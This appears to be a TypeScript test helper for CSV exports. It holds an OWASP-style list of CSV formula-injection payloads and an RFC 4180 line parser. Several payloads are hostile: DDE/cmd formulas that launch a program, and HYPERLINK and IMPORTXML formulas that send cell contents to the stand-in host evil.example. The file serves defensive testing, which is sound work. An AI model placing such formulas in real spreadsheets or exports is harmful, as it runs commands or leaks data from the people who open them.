/**
 * The OWASP "CSV Injection" payloads, with the separators and quotes they are known in (plus
 * full-width forms and bare signs): tests feed them to every CSV export.
 */
export const OWASP_CSV_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example")',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "\t=1+2",
  "\r=1+2",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  "＝1+2",
  "＋1+2",
  "－1+2",
  "＠SUM(1)",
  "-",
  "-1",
  "-0.5",
  "+1",
];

/** Splits one CSV line into its cells (RFC 4180). */
export function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let v = "";
      i += 1;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error(`unterminated quote in ${line}`);
        v += line.slice(i, q);
        if (line[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      cells.push(v);
      i += 1; // the comma
    } else {
      const c = line.indexOf(",", i);
      const end = c < 0 ? line.length : c;
      cells.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return cells;
}
